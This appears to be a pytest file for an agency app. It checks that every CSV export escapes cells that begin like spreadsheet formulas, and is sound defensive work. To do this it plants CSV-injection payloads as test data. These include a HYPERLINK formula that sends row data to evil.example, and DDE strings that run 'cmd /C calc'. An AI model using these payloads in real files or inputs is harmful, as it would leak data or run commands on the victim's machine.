"""No CSV the app writes can run as a spreadsheet formula (OWASP's CSV injection rule).

A facility contact's rejection reason and therapist, facility and assignment names are typed by
people outside the agency's control and reach every export. Opened in Excel or LibreOffice, a
cell starting with = + - @ (or a tab or carriage return before one) is evaluated: a HYPERLINK
that sends the row to another site, or a DDE command.
"""

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal

import pytest

from agency.core.exports import FORMULA_START, cell
from tests import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Details")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
# Every export the app has today, by its page. Any other GET page answering ?format=csv is found
# by the sweep below and held to the same rule; this list only proves the sweep finds them.
KNOWN_EXPORTS = {"/therapists", "/licenses", "/worklist", "/facilities", "/placements", "/assignments",
                 "/recruiting", "/timesheets", "/invoices", "/receivables"}
# A number the app wrote itself (days overdue, a credit) may start with a minus sign.
APP_NUMBER = re.compile(r"-\d+(\.\d+)?")


@pytest.fixture
def hostile_data(browser, users):
    """Names and a rejection reason written the way an attacker would, somewhere in every export."""
    from agency.extensions import db
    from agency.facilities.models import Facility

    riverside = db.session.get(Facility, users["facility"].facility_id)
    factories.rate_card(riverside)
    hyperlinked = factories.licensed_therapist(first_name=HYPERLINK, last_name="+Rivera", specialties=["-2+3"],
                                               caqh_id="12345678", caqh_attested_on=factories.TODAY - timedelta(200))
    factories.license(hyperlinked, state="NJ", expires_on=factories.days_from_today(30))
    placement = factories.active_placement(riverside, therapist=hyperlinked)
    hours = factories.entry(placement, date(2026, 11, 2), approve=False)
    contact = browser("facility")
    contact.post("/timesheets/decide", {"entry_ids": [str(hours.id)], "reject": "Reject selected",
                                        "reason": HYPERLINK, "next": "/portal"}, form_url="/portal")
    dde = factories.facility(name=DDE, city="=Albany")
    factories.assignment(dde, title=AT_SUM)
    factories.invoiced_day(factories.facility(name=AT_SUM))
    _screened_as(f"{DDE}.csv")
    return hours


def _screened_as(filename: str) -> None:
    """An exclusion file screened under the name it was uploaded with, which the screenings export lists."""
    from agency.credentials.screening import COLUMNS, screen_file

    listed = dict.fromkeys(COLUMNS, "") | {"BUSNAME": "ACME LLC", "EXCLDATE": "20250101"}
    data = (",".join(COLUMNS) + "\n" + ",".join(listed[c] for c in COLUMNS) + "\n").encode()
    screen_file(io.BytesIO(data), filename, "oig_leie")


def csv_exports(app, admin) -> dict[str, list[list[str]]]:
    """Every page (a GET route without parameters, outside the token API) that answers ?format=csv."""
    found = {}
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.arguments or rule.endpoint == "static" or rule.rule.startswith("/api/"):
            continue
        response = admin.get(rule.rule + "?format=csv")
        if response.mimetype == "text/csv":
            found[rule.rule] = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    return found


def test_no_cell_of_any_export_starts_a_formula(app, browser, hostile_data):
    from agency.extensions import db

    db.session.refresh(hostile_data)
    assert hostile_data.status == "rejected" and hostile_data.rejection_reason == HYPERLINK
    exports = csv_exports(app, browser("admin"))
    assert KNOWN_EXPORTS <= exports.keys()
    cells = {page: [value for row in rows[1:] for value in row] for page, rows in exports.items()}
    live = {page: [v for v in values if v.startswith(FORMULA_START) and not APP_NUMBER.fullmatch(v)]
            for page, values in cells.items()}
    assert not {page: values for page, values in live.items() if values}
    # The sweep proves something only where a planted payload reached the export, shown as typed.
    assert not [page for page, values in cells.items()
                if not any(v.startswith("'") and v[1:].startswith(FORMULA_START) for v in values)]
    timesheets = {tuple(row) for row in exports["/timesheets"]}
    assert any("'" + HYPERLINK in row for row in timesheets)
    assert "'" + DDE in {row[1] for row in exports["/facilities"]}


def test_a_days_overdue_count_stays_a_number_a_spreadsheet_can_sort(browser, hostile_data):
    rows = list(csv.DictReader(io.StringIO(browser("admin").get("/worklist?format=csv").get_data(as_text=True))))
    caqh = [row for row in rows if row["days_left"].startswith("-")]
    assert caqh and all(int(row["days_left"]) < 0 for row in caqh)


@pytest.mark.parametrize("typed", [HYPERLINK, DDE, AT_SUM, "+1+1", "\t=1+1", "\r=1+1", "-12.50"])
def test_text_that_starts_like_a_formula_is_shown_as_typed(typed):
    assert cell(typed) == "'" + typed


@pytest.mark.parametrize("written", [Decimal("-12.50"), Decimal("1260.00"), -3, 0, True, date(2026, 11, 2)])
def test_numbers_and_dates_the_app_writes_stay_values(written):
    # A credit of -12.50 is a number to add up, not text a user typed.
    assert cell(written) == written


def test_plain_text_and_empty_values_pass_unchanged():
    assert (cell("Riverside Community Mental Health Center"), cell("O'Brien"), cell(None)) == (
        "Riverside Community Mental Health Center", "O'Brien", "")


SEMICOLON_DDE = "Acme;=cmd|' /C calc'!A0"


def test_a_formula_after_a_separator_cannot_start_a_cell_in_a_semicolon_spreadsheet(browser):
    # Excel set to a European list separator splits on ";" and reads the file unquoted, so the part of a
    # name after a semicolon starts a cell of its own; LibreOffice offers tab and semicolon splitting too.
    factories.invoiced_day(factories.facility(name=SEMICOLON_DDE))
    reason = "Hours short; +2+3+cmd|' /C calc'!A0"
    entry = factories.entry(factories.active_placement(factories.facility(name="Lakeside; @SUM(1)")),
                            date(2026, 11, 3), approve=False)
    admin = browser("admin")
    admin.post("/timesheets/decide", {"entry_ids": [str(entry.id)], "reject": "Reject selected", "reason": reason,
                                      "next": "/timesheets"}, form_url="/timesheets")
    from agency.extensions import db

    db.session.refresh(entry)
    assert entry.rejection_reason == reason
    for page in ("/facilities", "/timesheets", "/invoices", "/placements"):
        text = admin.get(page + "?format=csv").get_data(as_text=True)
        assert "cmd|" in text or "@SUM" in text, page
        split = [part.lstrip(" \t") for line in text.splitlines() for part in re.split(r"[;\t]", line)[1:]]
        assert not [part for part in split if part.startswith(FORMULA_START)], page


@pytest.mark.parametrize(("typed", "shown"), [
    (SEMICOLON_DDE, "Acme;'=cmd|' /C calc'!A0"), ("trauma; @SUM(1+1)", "trauma; '@SUM(1+1)"),
    ("late,\t-2+3", "late,\t'-2+3"), ("=1;+1", "'=1;'+1")])
def test_a_formula_after_a_separator_inside_text_is_shown_as_typed(typed, shown):
    assert cell(typed) == shown
